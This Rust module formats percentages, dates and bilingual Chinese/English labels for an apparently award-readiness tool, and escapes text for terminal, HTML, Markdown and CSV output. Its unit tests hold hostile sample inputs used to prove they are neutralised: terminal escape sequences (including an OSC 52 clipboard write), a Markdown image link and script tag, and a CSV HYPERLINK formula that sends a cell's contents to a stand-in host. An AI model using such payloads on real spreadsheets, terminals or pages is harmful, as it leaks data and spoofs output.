//! One way to print each value a user reads, in each language: percents, languages, verdicts, gate
//! status, kinds, yes/no, years, and the escaping every text output needs (terminal, Markdown, CSV).
//! Renderers in the core and the surfaces' text renderers call these; none formats on its own.

use std::fmt;

use crate::framework::{Kind, Text};
use crate::readiness::{ReasonKind, Status, Verdict};
use crate::{Error, Points};

/// A share of a maximum, printed half up to one decimal from the exact hundredths of points (never
/// from an already-rounded float): 43.50 of 110 is 39.5454…% and prints `39.5%`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Percent {
    /// Tenths of a percent, rounded half up.
    tenths: i64,
}

impl Percent {
    /// `part` as a share of `whole` (0% when `whole` is zero).
    pub fn of(part: Points, whole: Points) -> Percent {
        let (p, w) = (part.hundredths(), whole.hundredths());
        if w == 0 {
            return Percent { tenths: 0 };
        }
        // tenths = round_half_up(p * 1000 / w), in integers (scores are far below overflow: a
        // framework has at most 100,000 points; saturating keeps a hostile value harmless).
        let twice = p.saturating_mul(2000).saturating_add(w);
        Percent { tenths: twice.div_euclid(w.saturating_mul(2)) }
    }

    /// Tenths of a percent (395 for 39.5%).
    pub fn tenths(self) -> i64 {
        self.tenths
    }
}

impl fmt::Display for Percent {
    /// `39.5%`; padding applies to the whole text.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let sign = if self.tenths < 0 { "-" } else { "" };
        let abs = self.tenths.unsigned_abs();
        f.pad(&format!("{sign}{}.{}%", abs / 10, abs % 10))
    }
}

/// The language of words a user reads. Parsed once, at the edge; an unknown language is an error.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Lang {
    #[default]
    Zh,
    En,
}

impl Lang {
    pub const ALL: [Lang; 2] = [Lang::Zh, Lang::En];

    /// Reads `zh` or `en` (case-insensitive; `zh-CN`, `en-GB` and the like by their first part).
    pub fn parse(text: &str) -> Result<Lang, Error> {
        let lower = text.trim().to_ascii_lowercase();
        match lower.split(['-', '_']).next().unwrap_or("") {
            "zh" => Ok(Lang::Zh),
            "en" => Ok(Lang::En),
            _ => Err(Error::Option {
                option: "lang".into(),
                value: text.chars().take(40).collect(),
                allowed: "zh, en".into(),
            }),
        }
    }

    pub fn id(self) -> &'static str {
        match self {
            Lang::Zh => "zh",
            Lang::En => "en",
        }
    }

    /// The text of a bilingual value in this language.
    pub fn pick(self, text: &Text) -> &str {
        match self {
            Lang::Zh => &text.zh,
            Lang::En => &text.en,
        }
    }

    /// One of two fixed words.
    pub fn t(self, zh: &'static str, en: &'static str) -> &'static str {
        match self {
            Lang::Zh => zh,
            Lang::En => en,
        }
    }
}

/// The words for a value a user reads, in both languages.
pub trait Words {
    fn word(&self, lang: Lang) -> &'static str;
}

impl Words for Verdict {
    fn word(&self, lang: Lang) -> &'static str {
        match self {
            Verdict::Ready => lang.t("可以申报", "ready"),
            Verdict::Near => lang.t("接近评分线", "near"),
            Verdict::NotYet => lang.t("尚未达到", "not yet"),
            Verdict::Ineligible => lang.t("不符合申报条件", "ineligible"),
            Verdict::Unknown => lang.t("信息不足，无法判断", "unknown"),
        }
    }
}

impl Words for Status {
    fn word(&self, lang: Lang) -> &'static str {
        match self {
            Status::Pass => lang.t("通过", "pass"),
            Status::Fail => lang.t("未通过", "fail"),
            Status::Unknown => lang.t("未知", "unknown"),
        }
    }
}

impl Words for ReasonKind {
    fn word(&self, lang: Lang) -> &'static str {
        match self {
            ReasonKind::Gate => lang.t("申报条件", "gate"),
            ReasonKind::Line => lang.t("评分线", "score line"),
            ReasonKind::Floor => lang.t("最低分要求", "floor"),
            ReasonKind::Level => lang.t("等级", "level"),
            ReasonKind::Document => lang.t("申报材料", "document"),
        }
    }
}

impl Words for Kind {
    fn word(&self, lang: Lang) -> &'static str {
        match self {
            Kind::Process => lang.t("过程", "process"),
            Kind::Results => lang.t("结果", "results"),
        }
    }
}

impl Words for bool {
    fn word(&self, lang: Lang) -> &'static str {
        match self {
            true => lang.t("是", "yes"),
            false => lang.t("否", "no"),
        }
    }
}

impl Words for crate::award::Level {
    fn word(&self, lang: Lang) -> &'static str {
        use crate::award::Level::*;
        match self {
            District => lang.t("区级", "district"),
            City => lang.t("市级", "city"),
            Provincial => lang.t("省级", "provincial"),
            National => lang.t("国家级", "national"),
            International => lang.t("国际", "international"),
        }
    }
}

impl Words for crate::award::Applicant {
    fn word(&self, lang: Lang) -> &'static str {
        match self {
            crate::award::Applicant::Organisation => lang.t("组织", "organisation"),
            crate::award::Applicant::Individual => lang.t("个人", "individual"),
        }
    }
}

/// A value's words in both languages, for results that carry them to every surface.
pub fn both(value: &dyn Words) -> Text {
    Text { zh: value.word(Lang::Zh).to_string(), en: value.word(Lang::En).to_string() }
}

/// A count of years: `20 years`, `20 年`.
pub fn years(n: i64, lang: Lang) -> String {
    match lang {
        Lang::Zh => format!("{n} 年"),
        Lang::En if n == 1 => "1 year".to_string(),
        Lang::En => format!("{n} years"),
    }
}

/// The day a surface runs on. The core never reads a clock: surfaces pass `today` in, so every
/// result (default years, "future date" checks) is reproducible in tests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Date {
    pub year: i32,
    pub month: u8,
    pub day: u8,
}

impl Date {
    /// A calendar date written `YYYY-MM-DD` (years 1900..=2200), or `None`.
    pub fn parse(text: &str) -> Option<Date> {
        let b = text.as_bytes();
        if b.len() != 10 || b[4] != b'-' || b[7] != b'-' {
            return None;
        }
        let num = |r: std::ops::Range<usize>| {
            text.get(r).filter(|t| t.bytes().all(|c| c.is_ascii_digit()))?.parse::<u32>().ok()
        };
        let (year, month, day) = (num(0..4)?, num(5..7)?, num(8..10)?);
        let leap = year % 4 == 0 && (year % 100 != 0 || year % 400 == 0);
        let days = match month {
            1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
            4 | 6 | 9 | 11 => 30,
            2 if leap => 29,
            2 => 28,
            _ => return None,
        };
        ((1900..=2200).contains(&year) && (1..=days).contains(&day)).then_some(Date {
            year: year as i32,
            month: month as u8,
            day: day as u8,
        })
    }

    /// The civil date (UTC) of a count of seconds since 1970-01-01 (Howard Hinnant's algorithm).
    pub fn from_unix_seconds(secs: u64) -> Date {
        let z = (secs / 86_400) as i64 + 719_468;
        let era = z.div_euclid(146_097);
        let doe = z - era * 146_097;
        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let day = (doy - (153 * mp + 2) / 5 + 1) as u8;
        let month = if mp < 10 { mp + 3 } else { mp - 9 } as u8;
        Date { year: (yoe + era * 400 + i64::from(month <= 2)) as i32, month, day }
    }
}

impl fmt::Display for Date {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }
}

/// Text for a terminal: control characters (ESC, OSC, BEL, carriage returns, C1 controls, bidi
/// overrides) become visible `\u{..}` escapes, so a name cannot recolour, overprint or reach the
/// clipboard. Newlines and tabs are escaped too: one value stays on its line.
pub fn terminal(text: &str) -> String {
    if !text.chars().any(is_unsafe_char) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_unsafe_char(c) {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

fn is_unsafe_char(c: char) -> bool {
    c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

/// Escapes text for HTML and SVG (element content and quoted attributes alike).
pub fn html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// Escapes user text for a Markdown line or table cell: HTML is escaped, and the Markdown syntax
/// that could make a link or an image (brackets), emphasis, code or a cell break is backslash-escaped;
/// line breaks become spaces (so no heading or list can start).
pub fn markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in html(text).chars() {
        match c {
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
                out.push('\\');
                out.push(c);
            }
            '\n' | '\r' => out.push(' '),
            c if is_unsafe_char(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// A text cell for CSV read by Excel or WPS: a cell that starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return would run as a formula, so it gets a leading `'` (numbers are written as
/// numbers by the caller and never pass through here).
pub fn csv_text(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn percent_rounds_once_half_up_from_exact_points() {
        // 43.50 of 110 = 39.5454…%: one rounding gives 39.5 (rounding 39.55 again gave 39.6).
        assert_eq!(Percent::of(Points(43_50), Points::whole(110)).to_string(), "39.5%");
        assert_eq!(Percent::of(Points(5278), Points::whole(100)).to_string(), "52.8%");
        assert_eq!(Percent::of(Points(5596), Points::whole(100)).to_string(), "56.0%");
        assert_eq!(Percent::of(Points(5595), Points::whole(100)).to_string(), "56.0%"); // exactly half: up
        assert_eq!(Percent::of(Points(5594), Points::whole(100)).to_string(), "55.9%");
        assert_eq!(Percent::of(Points::whole(0), Points::whole(0)).to_string(), "0.0%");
        assert_eq!(Percent::of(Points::whole(110), Points::whole(110)).to_string(), "100.0%");
        assert_eq!(format!("{:>7}", Percent::of(Points(1), Points(3))), "  33.3%");
    }

    #[test]
    fn lang_is_parsed_once_and_unknown_is_an_error() {
        assert_eq!(Lang::parse("en").ok(), Some(Lang::En));
        assert_eq!(Lang::parse("ZH-cn").ok(), Some(Lang::Zh));
        let e = Lang::parse("fr").err().map(|e| (e.code(), e.to_string()));
        assert_eq!(e.as_ref().map(|e| e.0), Some("bad-option"));
        assert!(e.is_some_and(|e| e.1.contains("`fr`") && e.1.contains("zh, en")));
    }

    #[test]
    fn every_word_exists_in_both_languages() {
        for v in [Verdict::Ready, Verdict::Near, Verdict::NotYet, Verdict::Ineligible, Verdict::Unknown] {
            assert_ne!(v.word(Lang::Zh), v.word(Lang::En));
            assert!(!v.word(Lang::Zh).is_ascii());
        }
        for s in [Status::Pass, Status::Fail, Status::Unknown] {
            assert!(!s.word(Lang::Zh).is_ascii());
        }
        assert_eq!(true.word(Lang::Zh), "是");
        assert_eq!(years(20, Lang::Zh), "20 年");
        assert_eq!(years(1, Lang::En), "1 year");
    }

    #[test]
    fn dates_parse_only_when_they_are_on_the_calendar() {
        assert_eq!(Date::parse("2024-02-29"), Some(Date { year: 2024, month: 2, day: 29 }));
        for bad in [
            "2023-02-29",
            "2026-13-01",
            "2026-04-31",
            "26-01-01",
            "2026/01/01",
            "2026-1-01",
            "１２３４-01-01",
            "1800-01-01",
        ] {
            assert_eq!(Date::parse(bad), None, "{bad}");
        }
        assert_eq!(Date::parse("2026-11-26").unwrap().to_string(), "2026-11-26");
    }

    #[test]
    fn dates_from_the_clock_are_civil() {
        assert_eq!(Date::from_unix_seconds(0).to_string(), "1970-01-01");
        assert_eq!(Date::from_unix_seconds(1_795_651_200).to_string(), "2026-11-26");
        assert_eq!(Date::from_unix_seconds(951_782_400).to_string(), "2000-02-29");
    }

    #[test]
    fn terminal_text_cannot_carry_control_sequences() {
        assert_eq!(terminal("plain 名称"), "plain 名称");
        assert_eq!(terminal("\u{1b}[32mPASS\u{1b}[0m"), "\\u{1b}[32mPASS\\u{1b}[0m");
        assert_eq!(terminal("\u{1b}]52;c;aGk=\u{7}"), "\\u{1b}]52;c;aGk=\\u{7}");
        assert_eq!(terminal("a\rb\u{202e}"), "a\\u{d}b\\u{202e}");
    }

    #[test]
    fn markdown_text_cannot_make_links_images_or_cells() {
        let hostile = "![](https://x.invalid/p.png)[verify](https://x.invalid) a\\|b <script>";
        let safe = markdown(hostile);
        assert!(!safe.contains("<script>"));
        // Every bracket and pipe is escaped, so no link, image or cell break is left.
        for c in ['[', ']', '|'] {
            assert!(safe.match_indices(c).all(|(i, _)| safe[..i].ends_with('\\')), "{safe}");
        }
    }

    #[test]
    fn csv_text_cells_never_start_a_formula() {
        for bad in ["=HYPERLINK(\"http://x\"&A2,\"open\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_text(bad).starts_with('\''), "{bad}");
        }
        assert_eq!(csv_text("上海某公司"), "上海某公司");
    }
}
